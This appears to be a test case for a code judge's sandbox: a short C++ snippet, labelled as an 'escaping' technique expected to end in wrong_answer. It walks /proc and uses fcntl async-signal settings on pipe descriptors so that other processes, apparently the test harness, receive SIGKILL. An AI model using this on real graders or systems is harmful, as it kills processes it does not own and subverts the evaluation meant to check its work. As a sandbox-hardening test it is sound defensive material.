// technique: asks the kernel to signal the tests whenever a pipe moves
// class: escaping
// expect: wrong_answer
    void attack();
    attack();
    return 0;
}

#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <unistd.h>
void attack() {
    DIR* all = opendir("/proc");
    while (dirent* each = all ? readdir(all) : nullptr) {
        int pid = atoi(each->d_name);
        if (pid <= 0 || pid == getpid()) continue;
        for (int fd : {3, 4}) {
            fcntl(fd, F_SETSIG, SIGKILL);
            fcntl(fd, F_SETOWN, pid);
            fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_ASYNC);
        }
    }
}
